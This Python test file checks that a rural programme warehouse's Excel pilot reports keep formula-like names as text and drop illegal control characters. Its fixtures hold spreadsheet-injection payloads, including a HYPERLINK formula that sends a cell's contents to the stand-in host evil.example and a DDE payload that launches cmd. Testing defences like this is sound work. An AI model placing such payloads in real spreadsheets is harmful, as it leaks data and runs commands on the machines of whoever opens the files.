"""The pilot reports (the 按月调度表 and the 评估验收评分表, as `ruralbrain report` and /pilots/export write them)
with names a hostile list gives, on SQLite and PostgreSQL with 忻州's real codes: text that reads as a formula
stays text, and characters XML cannot hold are dropped instead of failing the workbook."""

from __future__ import annotations

import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from etl.programmes.catalogue import load_programme
from etl.programmes.scoring import score_month
from etl.programmes.store import import_programme
from etl.regions import import_codes_file
from etl.warehouse.db import make_engine, migrate
from etl.warehouse.pilot_reports.acceptance import acceptance_book
from etl.warehouse.pilot_reports.monthly import monthly_workbook, read_monthly
from etl.warehouse.schema import programme_pilots

PROGRAMME = Path(__file__).resolve().parents[2] / "data" / "programmes" / "xinzhou-2023"
NOW = datetime(2023, 12, 5, tzinfo=UTC)
HESUO = "140902108000"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture(params=["sqlite", "postgresql"])
def url(request, tmp_path, real_data):
    url = f"sqlite:///{tmp_path / 'w.db'}" if request.param == "sqlite" else request.getfixturevalue("postgres_url")
    engine = make_engine(url)
    migrate(engine)
    import_codes_file(engine, real_data / "admin_codes_1409.csv")
    engine.dispose()
    return url


def _folder(tmp_path: Path, pilots: str | None = None, **replaced: str) -> Path:
    """A copy of the 忻州 programme, with its own pilot list and programme.toml lines replaced."""
    folder = tmp_path / f"p{len(list(tmp_path.glob('p*')))}"
    shutil.copytree(PROGRAMME, folder)
    if pilots is not None:
        (folder / "pilots.toml").write_text(pilots, encoding="utf-8")
    main_file = folder / "programme.toml"
    text = main_file.read_text(encoding="utf-8")
    for old, new in replaced.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    main_file.write_text(text, encoding="utf-8")
    return folder


def test_text_that_reads_as_a_formula_stays_text_in_the_reports(url, tmp_path):
    pilots = (
        f'[[pilots]]\nkind = "township"\ncounty = "忻府区"\ntownship = \'{FORMULA}\'\ncode = "{HESUO}"\n'
        "note = \"+cmd|' /C calc'!A0\"\n\n"
        '[[pilots]]\nkind = "township"\ncounty = "@SUM(1+1)"\ntownship = "宏道镇"\ncode = "140921102000"\n'
    )
    folder = _folder(tmp_path, pilots, **{'issuer = "忻州市乡村振兴局"': 'issuer = "=1+1"'})
    engine = make_engine(url)
    with engine.begin() as connection:
        import_programme(connection, load_programme(folder), NOW)
        score_month(connection, "xinzhou-2023", "2023-11", now=NOW)
        # A name the warehouse holds from before names were checked: its control character made openpyxl refuse
        # the whole workbook (IllegalCharacterError).
        connection.execute(
            update(programme_pilots).where(programme_pilots.c.pilot_id == "140921102000").values(name="宏道镇\x01")
        )
    with engine.connect() as connection:
        books = {
            "monthly": monthly_workbook(read_monthly(connection, "xinzhou-2023", "2023-11"), now=NOW),
            "acceptance": acceptance_book(connection, "xinzhou-2023", "2023-11", now=NOW),
        }
    engine.dispose()
    for name, book in books.items():
        book.save(tmp_path / f"{name}.xlsx")
        cells = [
            cell for sheet in load_workbook(tmp_path / f"{name}.xlsx") for row in sheet.iter_rows() for cell in row
        ]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], name
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert any(FORMULA in text for text in texts), name  # shown as written
        assert any("宏道镇" in text for text in texts) and not any("\x01" in text for text in texts), name
    monthly = load_workbook(tmp_path / "monthly.xlsx")
    written = {cell.value: cell for row in monthly["忻府区"].iter_rows() for cell in row}
    assert written[FORMULA].data_type == "s" and written[FORMULA].quotePrefix
